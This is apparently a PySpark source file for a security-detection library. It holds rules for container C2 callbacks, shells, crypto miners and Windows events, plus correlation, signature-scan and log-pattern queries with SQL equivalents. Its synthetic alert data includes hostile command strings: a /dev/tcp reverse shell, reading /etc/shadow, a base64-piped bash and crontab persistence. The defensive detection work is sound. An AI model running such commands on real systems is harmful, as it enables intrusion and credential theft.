"""Detection and log-pattern queries (sections 2.7, 2.8)."""

from __future__ import annotations

import datetime as dt
import re

from pyspark.sql import functions as F

from opsignal import fixed_values as fv
from opsignal import shipped_rules
from opsignal.functions.text import pattern_id
from opsignal.operators import detect, rules as compiled_rules, scan, templates
from opsignal.plans.derived import LOGS, RULE_NAME, SIG, logs, signals
from opsignal.plans.ranges import _ceil
from opsignal.plans.registry import query

RULES = [
    {"id": "c2-callback", "title": "Potential C2 Callback from Container", "level": "high",
     "tags": ["attack.command_and_control", "attack.t1071", "attack.t1105"]},
    {"id": "container-shell", "title": "Interactive Shell Spawned in Container", "level": "high",
     "tags": ["attack.execution", "attack.t1059.004"]},
    {"id": "crypto-miner", "title": "Crypto Miner Process Detected", "level": "critical", "tags": ["attack.impact", "attack.t1496"]},
    {"id": "probe-timeout", "title": "Probe Timeout", "level": "low", "tags": ["availability"]},
    {"id": "secret-write", "title": "Write to Secrets", "level": "medium", "tags": ["attack.T1552"]},
]


def rules():
    line, cls = F.col("line"), F.col("event_class")
    where = [
        (cls == "runtime-security") & line.contains("Redirect STDOUT/STDIN to Network Connection") & line.rlike("rport=(4444|4445|1337|31337|9001)[^0-9]"),
        (cls == "runtime-security") & line.contains("Terminal shell in container"),
        cls.isin("application", "auth") & line.rlike("xmrig|minerd|cpuminer") & ~line.rlike("executeQuery|TCPHandler|DB::Exception"),
        line.contains("probe timeout"),
        (cls == "k8s-audit") & line.contains('"resource":"secrets"') & line.rlike('"verb":"(create|delete)"'),
    ]
    return [{**r, "where": w} for r, w in zip(RULES, where)]


def matches(t):
    found = detect.match_rules(logs(t), rules(), ["event_id", "ts", "ns", "pod", "k", "line"])
    return found.withColumnRenamed("line", "log_string")


MATCHES = f"""{LOGS}, matches AS (
  SELECT event_id, ts, ns, pod, k, line AS log_string, r.rule_id, r.rule_title, r.rule_level, r.mitre FROM logs, (VALUES
    ('c2-callback', 'Potential C2 Callback from Container', 'high', 'attack.t1071'),
    ('container-shell', 'Interactive Shell Spawned in Container', 'high', 'attack.t1059.004'),
    ('crypto-miner', 'Crypto Miner Process Detected', 'critical', 'attack.t1496'),
    ('probe-timeout', 'Probe Timeout', 'low', ''),
    ('secret-write', 'Write to Secrets', 'medium', 'attack.T1552')) r(rule_id, rule_title, rule_level, mitre)
  WHERE CASE r.rule_id
    WHEN 'c2-callback' THEN event_class = 'runtime-security' AND line LIKE '%Redirect STDOUT/STDIN to Network Connection%' AND (line LIKE '%rport=4444 %' OR line LIKE '%rport=4445 %')
    WHEN 'container-shell' THEN event_class = 'runtime-security' AND line LIKE '%Terminal shell in container%'
    WHEN 'crypto-miner' THEN event_class IN ('application', 'auth') AND line LIKE '%xmrig%'
    WHEN 'probe-timeout' THEN line LIKE '%probe timeout%'
    ELSE event_class = 'k8s-audit' AND line LIKE '%"resource":"secrets"%' AND (line LIKE '%"verb":"create"%' OR line LIKE '%"verb":"delete"%') END)"""
HASHED = f"""{MATCHES}, hashed AS (SELECT *, left(sha256(concat(rule_id, ':', ns, ':', CAST(floor(epoch(ts) / 60) AS BIGINT))), 16) AS event_hash FROM matches)"""


@query("rule_match", f"WITH {MATCHES} SELECT event_id, ns, rule_id, rule_title, rule_level, mitre, log_string FROM matches")
def _(t):
    return matches(t).select("event_id", "ns", "rule_id", "rule_title", "rule_level", "mitre", "log_string")


RECORDS = """CASE k % 5 WHEN 0 THEN 'windows-security' WHEN 1 THEN 'windows-system' WHEN 2 THEN 'sysmon' WHEN 3 THEN 'hyperv' END AS log_source,
  CASE k % 5 WHEN 0 THEN CASE user_id % 4 WHEN 0 THEN 4689 WHEN 1 THEN 4719 WHEN 2 THEN 4698 ELSE 4624 END WHEN 1 THEN 7045 - user_id % 2
    WHEN 3 THEN CASE user_id % 4 WHEN 0 THEN 18590 WHEN 1 THEN 18570 WHEN 2 THEN 21502 ELSE 1 END END AS event_code,
  CASE WHEN k % 3 = 0 THEN concat('C:', chr(92), 'Defender', chr(92), 'msmpeng.EXE') ELSE concat('C:', chr(92), 'notepad.exe') END AS process,
  CASE WHEN event_type = 'click' THEN 'HOST1$' ELSE 'alice' END AS subject,
  CASE event_type WHEN 'error' THEN 'psexesvc-4' WHEN 'view' THEN 'windefend' WHEN 'click' THEN 'node-otelcol' WHEN 'signup' THEN 'updater' END AS service,
  CASE WHEN user_id % 2 = 0 THEN concat('C:', chr(92), 'wbem', chr(92), 'WmiPrvSE.exe') ELSE concat('C:', chr(92), 'explorer.exe') END AS parent,
  CASE user_id % 3 WHEN 0 THEN concat('C:', chr(92), 'CMD.exe') WHEN 1 THEN concat('C:', chr(92), 'powershell.exe') ELSE concat('C:', chr(92), 'calc.exe') END AS image,
  CASE WHEN k % 5 <> 4 THEN '' WHEN event_type = 'error' AND k < 30 THEN 'Terminal shell in container' WHEN event_type = 'error' AND k < 60
    THEN concat('Redirect STDOUT/STDIN to Network Connection rport=', 4440 + k % 8, ' x') WHEN event_type = 'error' THEN 'setcap cap_net_admin+ep'
    WHEN event_type = 'view' AND k < 50 THEN 'xmrig --donate-level 1' WHEN event_type = 'view' THEN 'minerd TCPHandler' ELSE 'xmrig' END AS line,
  CASE event_type WHEN 'error' THEN 'runtime-security' WHEN 'view' THEN 'application' WHEN 'purchase' THEN 'auth' ELSE 'k8s-audit' END AS event_class"""


def records(t):
    """Windows records and log lines: attributes, fields, line, event_class."""
    fields = {
        "EventID": F.col("event_code").cast("string"), "ProcessName": F.col("process"), "SubjectUserName": F.col("subject"), "ServiceName": F.col("service"),
        "ParentProcessName": F.col("parent"), "Image": F.col("image"),
    }
    as_map = lambda m: F.map_filter(F.create_map(*[x for k, v in m.items() for x in (F.lit(k), v)]), lambda _, v: v.isNotNull())
    return signals(t).select("*", *[F.expr(c) for c in _split_columns(RECORDS)]).select(
        "event_id", "ns", as_map({"log.source": F.col("log_source")}).alias("attributes"), as_map(fields).alias("fields"), "line", "event_class"
    )


def _split_columns(text: str) -> list[str]:
    """The columns of a select list, each of which ends in a name after AS."""
    return [c.strip().removesuffix(",") for c in re.findall(r".+? AS \w+(?:,|$)", text, re.S)]


@query(
    "shipped_rules_match",
    f"""WITH {SIG}, f AS (SELECT event_id, ns, k, user_id, event_type, {RECORDS} FROM sig)
        SELECT event_id, ns, r.rule_id, r.rule_level, r.mitre FROM f, (VALUES ('c2-callback', 'high', 'attack.t1071'), ('container-shell', 'high', 'attack.t1059.004'),
          ('crypto-miner', 'critical', 'attack.t1496'), ('privilege-escalation', 'high', 'attack.t1548.001'), ('windows_defender_disabled', 'high', 'attack.t1562.001'),
          ('windows_audit_policy_changed', 'high', 'attack.t1562.002'), ('hyperv_vm_unexpected_shutdown', 'high', ''), ('hyperv_migration_failure', 'medium', ''),
          ('windows_psexec', 'high', 'attack.t1570'), ('windows_wmi_remote', 'medium', 'attack.t1021.006'), ('windows_scheduled_task_creation', 'medium', 'attack.t1053.005'),
          ('windows_new_service', 'low', 'attack.t1543.003')) r(rule_id, rule_level, mitre)
        WHERE CASE r.rule_id
          WHEN 'c2-callback' THEN event_class = 'runtime-security' AND line LIKE '%Redirect STDOUT/STDIN to Network Connection%' AND (line LIKE '%rport=4444 %' OR line LIKE '%rport=4445 %')
          WHEN 'container-shell' THEN event_class = 'runtime-security' AND line LIKE '%Terminal shell in container%'
          WHEN 'crypto-miner' THEN event_class IN ('application', 'auth') AND (line LIKE '%xmrig%' OR line LIKE '%minerd%') AND line NOT LIKE '%TCPHandler%'
          WHEN 'privilege-escalation' THEN event_class = 'runtime-security' AND line LIKE '%setcap%'
          WHEN 'windows_defender_disabled' THEN log_source = 'windows-security' AND event_code = 4689 AND process ILIKE '%msmpeng.exe'
          WHEN 'windows_audit_policy_changed' THEN log_source = 'windows-security' AND event_code = 4719
          WHEN 'hyperv_vm_unexpected_shutdown' THEN log_source = 'hyperv' AND event_code IN (18590, 18570)
          WHEN 'hyperv_migration_failure' THEN log_source = 'hyperv' AND event_code = 21502
          WHEN 'windows_psexec' THEN log_source = 'windows-system' AND event_code = 7045 AND service ILIKE '%psexesvc%'
          WHEN 'windows_wmi_remote' THEN log_source = 'sysmon' AND parent LIKE '%WmiPrvSE.exe' AND (image ILIKE '%cmd.exe' OR image ILIKE '%powershell.exe')
          WHEN 'windows_scheduled_task_creation' THEN log_source = 'windows-security' AND event_code = 4698 AND NOT subject LIKE '%$'
          ELSE log_source = 'windows-system' AND event_code = 7045 AND NOT coalesce(service ILIKE '%otelcol%' OR service ILIKE '%windefend%', false) END""",
)
def _(t):
    found = compiled_rules.match_shipped(records(t), shipped_rules.RULES, shipped_rules.LOG_SOURCES, shipped_rules.FIELD_NAMES, ["event_id", "ns"])
    return found.select("event_id", "ns", "rule_id", "rule_level", "mitre")


SELECTIONS = [
    {"id": "shell-or-root", "title": "t", "level": "high", "tags": [],
     "selections": {
         "shell": {"Image|endswith": ["/SH", "/bash"], "Container|contains": "*"},
         "root": {"User": "ROOT", "Port": [4444, 4445]},
         "known": {"Container|startswith": "pod-1"}},
     "condition": ("and", ("or", "shell", "root"), ("not", "known"))},
    {"id": "delete-many", "title": "t", "level": "low", "tags": [],
     "selections": {"sel": {"Command|contains": ["cap_setuid", "DELETE"]}}, "condition": "sel"},
]


@query(
    "selection_match",
    f"""WITH {SIG}, f AS (SELECT event_id, pod, k, CASE k % 4 WHEN 0 THEN '/bin/sh' WHEN 1 THEN '/usr/bin/Bash' WHEN 2 THEN '/bin/nc' END AS image,
          CASE WHEN user_id % 3 = 0 THEN 'root' ELSE 'app' END AS usr, 4440 + k % 8 AS port, CASE WHEN k % 9 = 0 THEN 'kubectl delete pod' ELSE 'ls' END AS cmd FROM sig)
        SELECT event_id, 'shell-or-root' AS rule_id FROM f WHERE (k % 4 IN (0, 1) OR (usr = 'root' AND port IN (4444, 4445))) AND pod NOT LIKE 'pod-1%'
        UNION ALL SELECT event_id, 'delete-many' FROM f WHERE k % 9 = 0""",
)
def _(t):
    k = F.col("k")
    rows = signals(t).select(
        "event_id", "pod",
        F.when(k % 4 == 0, "/bin/sh").when(k % 4 == 1, "/usr/bin/Bash").when(k % 4 == 2, "/bin/nc").alias("image"),
        F.when(F.col("user_id") % 3 == 0, "root").otherwise("app").alias("usr"),
        (4440 + k % 8).cast("string").alias("port"),
        F.when(k % 9 == 0, "kubectl delete pod").otherwise("ls").alias("cmd"),
    )
    fields = {"Image": F.col("image"), "Container": F.col("pod"), "User": F.col("usr"), "Port": F.col("port"), "Command": F.col("cmd")}
    compiled = [{**r, "where": detect.rule_condition(r, fields)} for r in SELECTIONS]
    return detect.match_rules(rows, compiled, ["event_id"]).select("event_id", "rule_id")


@query(
    "sql_rule",
    f"""WITH {LOGS} SELECT ns, pod, ts, line FROM logs WHERE line LIKE '%Terminal shell in container%' AND event_class = 'runtime-security'
        AND ts >= '2024-01-01' AND ts <= '2024-02-01'""",
)
def _(t):
    text = """SELECT ns, pod, ts, line FROM {logs} WHERE line LIKE '%Terminal shell in container%' AND labels['event_class'] = 'runtime-security'
              AND ts_ns BETWEEN :start_ns AND :end_ns"""
    rows = logs(t).withColumn("ts_ns", F.unix_micros(F.col("ts").cast("timestamp")) * 1000)
    at = lambda d: int(d.replace(tzinfo=dt.timezone.utc).timestamp()) * 1_000_000_000
    return detect.sql_rule(t.spark, text, rows, at(dt.datetime(2024, 1, 1)), at(dt.datetime(2024, 2, 1)))


@query(
    "match_dedup",
    f"""WITH {HASHED} SELECT event_hash, rule_id, ns, ts, event_id FROM hashed
        WHERE event_hash NOT IN (SELECT event_hash FROM hashed WHERE ts < TIMESTAMP '2024-01-11')
        QUALIFY row_number() OVER (PARTITION BY event_hash ORDER BY ts, event_id) = 1""",
)
def _(t):
    found = matches(t).select("rule_id", "ns", "ts", "event_id")
    stored = detect.dedup_matches(found.filter(F.col("ts") < F.lit(dt.datetime(2024, 1, 11))), None, ["ts", "event_id"])
    return detect.dedup_matches(found, stored, ["ts", "event_id"])


# scan windows of the correlations: 15-minute cycles over 6 hours
WINDOWS = f"""{MATCHES}, ends AS (SELECT DISTINCT time_bucket(INTERVAL 15 MINUTE, ts) + INTERVAL 15 MINUTE * unnest(generate_series(1, 24)) AS scan_end FROM matches),
  inw AS (SELECT m.*, scan_end FROM matches m JOIN ends ON m.ts >= scan_end - INTERVAL 6 HOUR AND m.ts < scan_end)"""
CYCLE = 900


@query(
    "event_count_corr",
    f"""WITH {WINDOWS} SELECT rule_id, ns, scan_end, count(*) AS cnt, min(ts) AS first_seen, max(ts) AS last_seen FROM inw
        WHERE rule_id IN ('probe-timeout', 'container-shell') GROUP BY rule_id, ns, scan_end HAVING count(*) >= 3""",
)
def _(t):
    corr = {"rules": ["probe-timeout", "container-shell"], "group_by": ["ns"], "timespan": "6h", "condition": {"gte": 3}}
    return detect.event_count(matches(t), corr, CYCLE)


@query(
    "value_count_corr",
    f"""WITH {WINDOWS} SELECT rule_id, ns, scan_end, count(DISTINCT pod) AS ucount, min(ts) AS first_seen, max(ts) AS last_seen FROM inw
        WHERE rule_id IN ('probe-timeout', 'crypto-miner') GROUP BY rule_id, ns, scan_end HAVING count(DISTINCT pod) > 2""",
)
def _(t):
    corr = {"rules": ["probe-timeout", "crypto-miner"], "group_by": ["ns"], "timespan": "6h", "condition": {"gt": 2, "field": "pod"}}
    return detect.value_count(matches(t), corr, CYCLE)


@query(
    "temporal_corr",
    f"""WITH {WINDOWS} SELECT 'corr_shell_and_probe' AS rule_id, ns, max(ts) AS ts,
          left(sha256(concat('corr_shell_and_probe:', ns, ':', CAST(floor(epoch(max(ts)) / 60) AS BIGINT))), 16) AS event_hash
        FROM inw WHERE rule_id IN ('probe-timeout', 'container-shell', 'crypto-miner') GROUP BY ns, scan_end HAVING count(DISTINCT rule_id) >= 3""",
)
def _(t):
    corr = {"rules": ["probe-timeout", "container-shell", "crypto-miner"], "group_by": ["ns"], "timespan": "6h"}
    found = detect.temporal(matches(t), corr, CYCLE)
    return detect.correlation_matches(found, {"title": "Shell and Probe"}).select("rule_id", "ns", "ts", "event_hash")


EXTRA_SIGNATURES = {
    "Email_Address": {"any_regex": [r"[a-z0-9.]+@[a-z0-9]+\.[a-z]+"]},
    "Script_Tag": {"any": ["<script>"], "all_nocase": ["TRACK("]},
    "Mixed_Markers": {"any_nocase": ["LICENSE", "Copyright"]},
}


def _signature_sql() -> str:
    def quote(s):
        return s.replace("'", "''")

    def cond(spec):
        either = [f"contains(body, '{quote(s)}')" for s in spec.get("any", [])]
        either += [f"contains(lower(body), '{quote(s.lower())}')" for s in spec.get("any_nocase", [])]
        either += [f"regexp_matches(body, '{quote(s)}')" for s in spec.get("any_regex", [])]
        every = [f"contains(body, '{quote(s)}')" for s in spec.get("all", [])]
        every += [f"contains(lower(body), '{quote(s.lower())}')" for s in spec.get("all_nocase", [])]
        return " AND ".join((["(" + " OR ".join(either) + ")"] if either else []) + every)

    both = {**fv.SIGNATURES, **EXTRA_SIGNATURES}
    parts = " UNION ALL ".join(f"SELECT id, origin, '{n}' AS signature FROM c WHERE {cond(s)}" for n, s in both.items())
    return f"""WITH c AS (SELECT doc_id AS id, 'document' AS origin, text AS body FROM documents UNION ALL SELECT page_id, 'page', html FROM pages) {parts}"""


@query("signature_scan", _signature_sql())
def _(t):
    content = t.documents.select(F.col("doc_id").alias("id"), F.lit("document").alias("origin"), F.col("text").alias("body")).union(
        t.pages.select(F.col("page_id").alias("id"), F.lit("page").alias("origin"), F.col("html").alias("body"))
    )
    return detect.scan_signatures(content, "body", ["id", "origin"], {**fv.SIGNATURES, **EXTRA_SIGNATURES})


@query(
    "signature_names",
    f"""WITH {SIG} SELECT ns, time_bucket(INTERVAL 10 MINUTE, ts) AS bucket, string_agg(DISTINCT concat('Sig_', k % 9), ',' ORDER BY concat('Sig_', k % 9)) AS signatures
        FROM sig WHERE k % 3 <> 0 GROUP BY ALL""",
)
def _(t):
    hit = F.to_json(F.struct(F.concat(F.lit("Sig_"), (F.col("k") % 9).cast("string"), F.lit(" /tmp/"), F.col("pod")).alias("yara_match")))
    rows = signals(t).select(
        "ns", F.window("ts", "10 minutes")["start"].alias("bucket"), F.when(F.col("k") % 3 != 0, hit).otherwise("no match").alias("line")
    )
    out = detect.signature_names(rows, ["ns", "bucket"], "line", "yara_match")
    return out.withColumn("signatures", F.array_join("signatures", ","))


_ACTION_ROWS = ", ".join(
    f"('{name.lower()}', {i}, '{a}')" for name, acts in fv.RESPONSE_ACTIONS for i, a in enumerate(acts)
)


@query(
    "response_lookup",
    f"""WITH {SIG}, r AS (SELECT ns, {RULE_NAME} AS rule_name, count(*) AS n FROM sig GROUP BY ALL)
        SELECT ns, rule_name, n, action_no, action FROM r LEFT JOIN (VALUES {_ACTION_ROWS}) a(name, action_no, action) ON lower(rule_name) = name""",
)
def _(t):
    counts = signals(t).groupBy("ns", F.expr(RULE_NAME).alias("rule_name")).agg(F.count("*").alias("n"))
    return detect.response_lookup(counts, "rule_name")


EXE_PATH = "CASE k % 4 WHEN 0 THEN concat('/opt/cni/bin/', k) WHEN 1 THEN concat('/tmp/my-app-', k) WHEN 2 THEN concat('/usr/bin/', k) END"


@query(
    "rule_exceptions",
    f"""WITH {SIG}, m AS (SELECT event_id, {RULE_NAME} AS rule_name, CASE WHEN user_id % 2 = 0 THEN 'my-app' ELSE 'other' END AS container, {EXE_PATH} AS exe FROM sig)
        SELECT * FROM m WHERE NOT (rule_name = 'Drop and execute new binary in container' AND (coalesce(exe LIKE '/opt/cni/bin/%', false)
          OR coalesce(container = 'my-app' AND exe LIKE '/tmp/my-app-%', false)))""",
)
def _(t):
    found = signals(t).select(
        "event_id", F.expr(RULE_NAME).alias("rule_name"),
        F.when(F.col("user_id") % 2 == 0, "my-app").otherwise("other").alias("container"), F.expr(EXE_PATH).alias("exe"),
    )
    return detect.apply_exceptions(found, "rule_name", "container", "exe")


# --- 2.8 log patterns ----------------------------------------------------------------------------
MASK = r"""regexp_replace(regexp_replace(regexp_replace(regexp_replace(line, '[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}', '<*>', 'g'),
  '\b[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\b', '<*>', 'g'), '\b[0-9a-fA-F]{8,}\b', '<*>', 'g'), '[0-9]+', '<*>', 'g')"""


@query(
    "template_mine",
    rf"""WITH src AS (SELECT source AS ns, unnest(string_split(text, chr(10))) AS line, TIMESTAMP '2024-01-01' + INTERVAL 1 SECOND * doc_id AS ts FROM documents),
        m AS (SELECT ns, regexp_replace(trim({MASK}, ' '), '\s+', ' ', 'g') AS masked, ts FROM src),
        l AS (SELECT ns, masked, count(*) AS cnt, min(ts) AS first_seen, string_split(masked, ' ') AS tok FROM m WHERE masked <> '' GROUP BY ALL),
        g AS (SELECT *, len(tok) AS n, tok[1] AS head FROM l),
        e AS (SELECT ns, n, head, unnest(tok) AS token, generate_subscripts(tok, 1) AS pos FROM g),
        v AS (SELECT ns, n, head, pos FROM e GROUP BY ALL HAVING count(DISTINCT token) > 5 AND count(DISTINCT token) > 0.4 * count(*)),
        o AS (SELECT ns, n, head, list(pos) AS open FROM v GROUP BY ALL),
        t AS (SELECT g.ns, cnt, first_seen, array_to_string(CASE WHEN open IS NULL THEN tok
                ELSE list_transform(tok, lambda x, i: CASE WHEN list_contains(open, i) THEN '<*>' ELSE x END) END, ' ') AS template
              FROM g LEFT JOIN o ON o.ns = g.ns AND o.n = g.n AND o.head = g.head)
        SELECT ns, template, CAST(sum(cnt) AS BIGINT) AS samples_count, min(first_seen) AS first_seen, left(md5(concat(ns, ':', template)), 16) AS pattern_id FROM t GROUP BY ALL""",
)
def _(t):
    seen = F.lit(dt.datetime(2024, 1, 1)).cast("timestamp_ntz") + F.make_dt_interval(secs=F.col("doc_id").cast("decimal(18,6)"))
    lines = t.documents.select(F.col("source").alias("ns"), F.explode(F.split("text", "\n")).alias("line"), seen.alias("ts"))
    return templates.mine_templates(lines, ["ns"], "line", "ts")


@query(
    "log_template_mine",
    rf"""WITH {LOGS}, m AS (SELECT ns, time_bucket(INTERVAL 1 DAY, ts) AS bucket, regexp_replace(trim({MASK}, ' '), '\s+', ' ', 'g') AS masked, ts FROM logs),
        l AS (SELECT ns, bucket, masked AS template, count(*) AS samples_count, min(ts) AS first_seen FROM m WHERE masked <> '' GROUP BY ALL)
        SELECT ns, bucket, template, samples_count, first_seen, left(md5(concat(ns, ':', template)), 16) AS pattern_id FROM l""",
)
def _(t):
    # few distinct masked lines per group here: no position reaches the cap, masking alone decides
    rows = logs(t).withColumn("bucket", F.date_trunc("day", "ts").cast("timestamp_ntz"))
    return templates.mine_templates(rows, ["ns", "bucket"], "line", "ts")


@query(
    "pattern_id",
    f"WITH {LOGS} SELECT ns, left(md5(concat(ns, ':', line)), 16) AS pattern_id, count(*) AS n FROM logs GROUP BY ALL",
)
def _(t):
    return logs(t).groupBy("ns", pattern_id("ns", "line").alias("pattern_id")).agg(F.count("*").alias("n"))


ENRICHED = f"""{LOGS}, pat AS (SELECT ns, time_bucket(INTERVAL 1 DAY, ts) AS bucket, regexp_replace(line, '[0-9]+', '<*>', 'g') AS template,
          left(md5(concat(ns, ':', regexp_replace(line, '[0-9]+', '<*>', 'g'))), 16) AS pattern_id, count(*) AS samples_count, min(ts) AS first_seen
        FROM logs WHERE line <> '' GROUP BY ALL),
  known AS (SELECT pattern_id, min(bucket) + INTERVAL 1 DAY AS known_since FROM pat GROUP BY ALL HAVING min(bucket) <= TIMESTAMP '2024-01-02'),
  enr AS (SELECT p.*, coalesce(avg(samples_count) OVER (PARTITION BY p.ns, p.pattern_id ORDER BY bucket ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS avg_count,
      known_since IS NULL OR known_since >= bucket AS is_novel,
      EXISTS (SELECT 1 FROM sig s WHERE s.ns = p.ns AND s.event_type = 'signup' AND s.ts BETWEEN first_seen - INTERVAL 300 SECOND AND first_seen + INTERVAL 300 SECOND) AS near
    FROM pat p LEFT JOIN known USING (pattern_id))"""


def enriched(t):
    rows = logs(t).filter(F.col("line") != "").groupBy(
        "ns", F.regexp_replace("line", "[0-9]+", "<*>").alias("template"), F.date_trunc("day", "ts").cast("timestamp_ntz").alias("bucket")
    ).agg(F.count("*").alias("samples_count"), F.min("ts").alias("first_seen"))
    rows = rows.withColumn("pattern_id", pattern_id("ns", "template"))
    day2 = F.lit(dt.datetime(2024, 1, 2)).cast("timestamp_ntz")
    known = rows.groupBy("pattern_id").agg(F.min("bucket").alias("b")).filter(F.col("b") <= day2)
    known = known.select("pattern_id", (F.col("b") + F.make_dt_interval(F.lit(1))).alias("known_since"))
    security = signals(t).filter("event_type = 'signup'").select("ns", F.col("ts").alias("seen_at"))
    return templates.enrich_patterns(rows, ["ns"], "bucket", known, security)


@query(
    "enrich_patterns",
    f"""WITH {ENRICHED} SELECT ns, pattern_id, template, bucket, samples_count, is_novel, avg_count > 0 AND samples_count > 3 * avg_count AS is_freq_anomaly,
        is_novel AND near AS security_correlated FROM enr""",
)
def _(t):
    return enriched(t).select(
        "ns", "pattern_id", "template", "bucket", "samples_count", "is_novel", "is_freq_anomaly", "security_correlated"
    )


@query(
    "register_novel",
    f"WITH {ENRICHED} SELECT pattern_id, min(template) AS template, min(bucket) AS known_since FROM enr WHERE is_novel GROUP BY pattern_id",
)
def _(t):
    return templates.register_novel(enriched(t), "bucket")


@query(
    "pattern_label_counts",
    f"""WITH {SIG} SELECT ns, CASE WHEN k % 3 = 0 THEN concat('p', k % 13) WHEN k % 3 = 1 THEN event_type ELSE 'unknown' END AS template, count(*) AS cnt
        FROM sig GROUP BY ALL ORDER BY cnt DESC, ns, template LIMIT 20""",
)
def _(t):
    k = F.col("k")
    labels = F.map_filter(
        F.create_map(
            F.lit("pattern"), F.when(k % 3 == 0, F.concat(F.lit("p"), (k % 13).cast("string"))),
            F.lit("detected_level"), F.when(k % 3 == 1, F.col("event_type")),
        ),
        lambda _, v: v.isNotNull(),
    )
    counts = templates.pattern_label_counts(signals(t).withColumn("labels", labels), ["ns"], "labels")
    return scan.top_k(counts, [F.col("cnt").desc(), F.col("ns"), F.col("template")], 20)


@query(
    "known_patterns",
    f"""WITH {SIG}, d AS (SELECT DISTINCT concat('p-', user_id % 50) AS pattern_id, date_trunc('second', ts) AS sec FROM sig WHERE event_type = 'error'),
        g AS (SELECT *, sec - lag(sec) OVER (PARTITION BY pattern_id ORDER BY sec) AS away FROM d)
        SELECT pattern_id, sec AS first_seen FROM g WHERE away IS NULL OR away > INTERVAL 4 DAY""",
)
def _(t):
    seen = signals(t).filter("event_type = 'error'").select(F.concat(F.lit("p-"), (F.col("user_id") % 50).cast("string")).alias("pattern_id"), "ts")
    return templates.novel_sightings(seen, 4 * 86400)


ALERT_LINE = """CASE event_type
  WHEN 'error' THEN CASE k % 4 WHEN 0 THEN 'bash -i >& /dev/tcp/10.0.0.1/4444' WHEN 1 THEN 'cat /etc/shadow' WHEN 2 THEN 'nmap -sV host' ELSE 'chmod +s /bin/x' END
  WHEN 'click' THEN CASE k % 3 WHEN 0 THEN 'chroot /proc/1/root' WHEN 1 THEN 'echo x | base64 -d | bash' ELSE 'echo y >> /etc/crontab' END
  WHEN 'view' THEN 'POST pods/exec' WHEN 'signup' THEN concat('trigger ', k)
  ELSE CASE k % 4 WHEN 0 THEN '{"security_anomaly": true}' WHEN 1 THEN '{"sigma_match": true}' WHEN 2 THEN 'yara_match WebShell_a' ELSE 'yara_match other' END END"""
ALERT_LABELS = {
    "job": "CASE WHEN event_type IN ('error', 'click') THEN 'loki.source.kubernetes.pods' WHEN event_type = 'view' AND k < 10 THEN 'kube-audit' END",
    "instance": "CASE WHEN user_id % 4 = 0 THEN 'observability/x' ELSE 'app/y' END",
    "source": "CASE WHEN event_type = 'signup' AND k < 5 THEN 'security/falco-talon' WHEN event_type = 'signup' THEN 'security/falco' END",
    "falco_priority": "CASE k % 3 WHEN 0 THEN 'Critical' WHEN 1 THEN 'Error' ELSE 'Notice' END",
    "falco_rule": "concat('rule ', k % 2)",
    "namespace": "CASE WHEN event_type = 'purchase' THEN 'security' ELSE 'default' END",
    "app": "CASE WHEN user_id % 2 = 0 THEN 'yara-scanner' ELSE 'other' END",
    "rule_level": "CASE WHEN user_id % 3 = 0 THEN 'high' ELSE 'low' END",
}


def _count_alert_sql() -> str:
    parts = []
    for name, wanted, unwanted, needles, by, span, limit in fv.COUNT_ALERTS:
        terms = [f"{n} IN ({', '.join(repr(x) for x in v)})" for n, v in wanted.items()]
        terms += [f"NOT starts_with({n}, '{v}')" for n, v in unwanted.items()] + [f"contains(line, '{x}')" for x in needles]
        key = f"to_json({{{', '.join(f'{n}: {n}' for n in by)}}})::VARCHAR" if by else "'{}'"
        back = {"5m": "4 MINUTE", "10m": "9 MINUTE", "2h": "119 MINUTE"}[span]
        parts.append(f"""SELECT '{name.replace("'", "''")}' AS alert, by_labels, t, sum(n) OVER (PARTITION BY by_labels ORDER BY t RANGE BETWEEN INTERVAL {back} PRECEDING AND CURRENT ROW)::BIGINT AS n,
            {limit} AS limit_n FROM (SELECT {key} AS by_labels, t, count(*) AS n FROM l WHERE {' AND '.join(terms)} GROUP BY ALL)""")
    labels = ", ".join(f"coalesce({e}, '') AS {n}" for n, e in ALERT_LABELS.items())
    return f"""WITH {SIG}, l AS (SELECT {labels}, {ALERT_LINE} AS line, {_ceil("1 MINUTE")} AS t FROM sig), a AS ({" UNION ALL ".join(parts)})
        SELECT alert, by_labels, t, n FROM a WHERE n > limit_n"""


@query("security_count_alerts", _count_alert_sql())
def _(t):
    labels = F.create_map(*[x for n, e in ALERT_LABELS.items() for x in (F.lit(n), F.expr(e))])
    rows = signals(t).select("ts", labels.alias("labels"), F.expr(ALERT_LINE).alias("line"))
    out = detect.count_alerts(rows, fv.COUNT_ALERTS, "labels", "line", "ts")
    return out.select("alert", F.to_json("by").alias("by_labels"), "t", "n")
